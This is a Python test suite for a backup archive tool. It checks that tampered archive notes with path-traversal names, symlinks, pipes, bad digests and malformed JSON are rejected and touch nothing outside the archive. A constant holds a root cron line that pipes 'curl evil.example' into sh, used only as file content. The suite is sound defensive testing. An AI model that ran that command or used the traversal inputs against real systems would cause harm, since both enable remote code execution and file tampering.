"""An archive of somebody else's: whatever its notes name, nothing is written, linked, followed or deleted outside of it."""

from __future__ import annotations

import json
import os
from collections.abc import Callable, Iterator
from contextlib import closing
from hashlib import sha256
from pathlib import Path
from typing import Any

import pytest

from oncelog_service.cli.frame.codes import FOUND
from oncelog_service.storage.backup.archive import Archive, BackupDamaged, BackupError
from oncelog_service.storage.open import store_opener
from tests.backup.test_archive import backup, put
from tests.behaviours.cli.support import run
from tests.storage.stores import IN_FILES

Note = dict[str, Any]
EVIL = b"* * * * * root curl evil.example | sh\n"


@pytest.fixture(params=IN_FILES)
def archive(request: pytest.FixtureRequest, tmp_path: Path) -> Archive:
    """Backup 1 is a good one; whose archive it is may write whatever it likes into it."""
    archive = Archive(tmp_path / "archive")
    with closing(store_opener(f"{request.param}://{tmp_path}/data")()) as store:
        put(store, 0, 9)
        backup(archive, store)
    return archive


def write_note(path: Path, value: object) -> None:
    data = value if isinstance(value, bytes) else json.dumps(value).encode()
    path.write_bytes(data + b"\n" + sha256(data).hexdigest().encode() + b"\n")


def note_of(archive: Archive) -> Note:
    found: Note = json.loads((archive.notes / "000001.json").read_bytes().split(b"\n")[0])
    return found


def evil(archive: Archive, name: str) -> Note:
    """A file that is there, whole and with its checksum, under a name that leads elsewhere."""
    digest = sha256(EVIL).hexdigest()
    (archive.files / digest).write_bytes(EVIL)
    return {"name": name, "bytes": len(EVIL), "sha256": digest, "modified_ns": 0, "inode": 0}


def outside(tmp_path: Path) -> set[Path]:
    """All that lies beside archive and target."""
    return {each for each in tmp_path.rglob("*") if each.relative_to(tmp_path).parts[0] not in ("archive", "data", "target")}


def refuses(archive: Archive, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Restored, verified, and built upon, the backup is damaged, and nothing is anywhere."""
    temporary = tmp_path / "temporary"
    temporary.mkdir(exist_ok=True)
    monkeypatch.setattr("tempfile.tempdir", str(temporary))
    before = outside(tmp_path)
    kind = "leveldb" if any(each.name.startswith("MANIFEST") for each in (tmp_path / "data").glob("*")) else "sqlite"
    for words in (
        ("backup", "verify", str(archive.path)),
        ("restore", str(archive.path), "--store", f"{kind}://{tmp_path}/target"),
        ("backup", "list", str(archive.path)),
    ):
        result = run(*words)
        assert outside(tmp_path) == before
        assert not (tmp_path / "target").exists()
        assert result.exit_code == FOUND, f"{words}: {result.output} {result.exception}"


NAMES = [
    "../evil", "../../evil", "/ABSOLUTE/evil", "a/../../evil", "..", ".", "", "CURRENT", "LOCK", "000001.ldb/x", "evil",
    "000001.ldb\n", "MANIFEST-000001\n../x", "MANIFEST-", "database.end", "database-wal", "１２３４５６.ldb", "000005.log\x00",
]  # fmt: skip


def first(**values: object) -> Callable[[Note], object]:
    return lambda note: note["files"][-1].update(values)


CHANGES: dict[str, Callable[[Note], object]] = {
    "a digest that is a path": first(sha256="../../data"),
    "a digest in capitals": lambda note: first(sha256=note["files"][-1]["sha256"].upper())(note),
    "a digest that is no text": first(sha256=7),
    "a size below nothing": first(bytes=-1),
    "a size that is no whole number": first(bytes=1.0),
    "a size that is a truth": first(bytes=True),
    "a name that is no text": first(name=["000001.ldb"]),
    "a file that changes and is to be linked": first(inode=5),
    "an inode that is text": first(inode="5"),
    "a member too many": first(mode=0o777),
    "the same file twice": lambda note: note["files"].append(note["files"][-1]),
    "no file": lambda note: note.update(files=[], bytes=0),
    "files that are no list": lambda note: note.update(files={"name": "x"}),
    "a sum that is wrong": lambda note: note.update(bytes=note["bytes"] + 1),
    "another kind": lambda note: note.update(kind="postgresql"),
    "a kind that is a path": lambda note: note.update(kind="../leveldb"),
    "another number": lambda note: note.update(number=2),
    "a position that is text": lambda note: note.update(position="1"),
    "a time that is text": lambda note: note.update(taken_ms="1"),
    "an id that is none": lambda note: note.update(store_id="x" * 10**6),
}


TEXTS = (b"[]", b"7", b'"x"', b"[" * 200_000, b"1" * 10_000, b'{"files": {}}', b"\xff")


def spoilt(archive: Archive, tmp_path: Path) -> Iterator[tuple[str, object]]:
    """What may be wrong, and the note that says it."""
    for name in NAMES:
        note = note_of(archive)
        note["files"].append(evil(archive, name.replace("/ABSOLUTE", str(tmp_path))))
        note["bytes"] += len(EVIL)
        yield f"a file of the name {name!r}", note
    for what, change in CHANGES.items():
        note = note_of(archive)
        change(note)
        yield what, note
    yield from ((f"{text[:20]!r}", text) for text in TEXTS)


def test_a_note_that_says_what_no_backup_does_is_damage(archive: Archive, tmp_path: Path) -> None:
    for what, note in spoilt(archive, tmp_path):
        write_note(archive.notes / "000001.json", note)
        with pytest.raises(BackupDamaged):
            pytest.fail(f"{what}: {archive.read(1)}")


@pytest.mark.parametrize("what", ["a file of the name '../evil'", "a digest that is a path", repr(TEXTS[3][:20])])
def test_what_is_damage_goes_nowhere(archive: Archive, what: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write_note(archive.notes / "000001.json", dict(spoilt(archive, tmp_path))[what])
    refuses(archive, tmp_path, monkeypatch)


@pytest.mark.parametrize("where", ["content", "note"])
@pytest.mark.parametrize("what", ["a link", "a pipe", "a directory"])
def test_what_is_no_file_of_its_own_is_damage_and_is_not_followed(
    archive: Archive, where: str, what: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = archive.notes / "000001.json" if where == "note" else archive.files / note_of(archive)["files"][-1]["sha256"]
    kept = path.rename(tmp_path / "kept")
    if what == "a link":
        path.symlink_to(kept)
    elif what == "a pipe":
        os.mkfifo(path)
    else:
        path.mkdir()
    refuses(archive, tmp_path, monkeypatch) if where == "note" else None
    with pytest.raises(BackupDamaged):
        archive.path_of(archive.newest().files[-1])


@pytest.mark.parametrize("folder", ["files", "backups"])
def test_a_folder_that_leads_elsewhere_is_no_archives_and_nothing_in_it_is_deleted(
    archive: Archive, folder: str, tmp_path: Path
) -> None:
    victim = tmp_path / "victim"
    (archive.path / folder).rename(victim)
    (victim / "theirs").write_text("precious")
    (archive.path / folder).symlink_to(victim)
    before = outside(tmp_path)
    with closing(store_opener(f"sqlite://{tmp_path}/other")()) as store:
        put(store, 0, 1)
        with pytest.raises(BackupError):
            backup(archive, store)
    assert run("backup", "prune", str(archive.path), "--keep", "1", "--yes").exit_code == 1
    assert before <= outside(tmp_path)


def test_pruning_deletes_contents_and_nothing_that_has_another_name(archive: Archive) -> None:
    (archive.files / "readme").write_text("not a content")
    (archive.files / ("0" * 64)).write_text("of no backup")
    assert run("backup", "prune", str(archive.path), "--keep", "1", "--yes").exit_code == 0
    assert (archive.files / "readme").exists()
    assert not (archive.files / ("0" * 64)).exists()


def test_a_lock_that_leads_elsewhere_makes_no_file_there(archive: Archive, tmp_path: Path) -> None:
    (archive.path / "lock").unlink()
    (archive.path / "lock").symlink_to(tmp_path / "made")
    assert run("backup", "prune", str(archive.path), "--keep", "1", "--yes").exit_code == 1
    assert not (tmp_path / "made").exists()


def test_an_earlier_note_that_lies_is_not_built_upon(tmp_path: Path) -> None:
    archive = Archive(tmp_path / "archive")
    with closing(store_opener(f"leveldb://{tmp_path}/data")()) as store:
        put(store, 0, 9)
        store.inner._db.compact_range()  # type: ignore[attr-defined]
        good = backup(archive, store)
        note = note_of(archive)
        secret = tmp_path / "secret"
        (table,) = (each for each in note["files"] if each["inode"])
        secret.write_bytes(b"x" * table["bytes"])
        table["sha256"] = str(secret)
        write_note(archive.notes / "000001.json", note)
        found = backup(archive, store)
    assert {each.sha256 for each in found.files} == {each.sha256 for each in good.files}
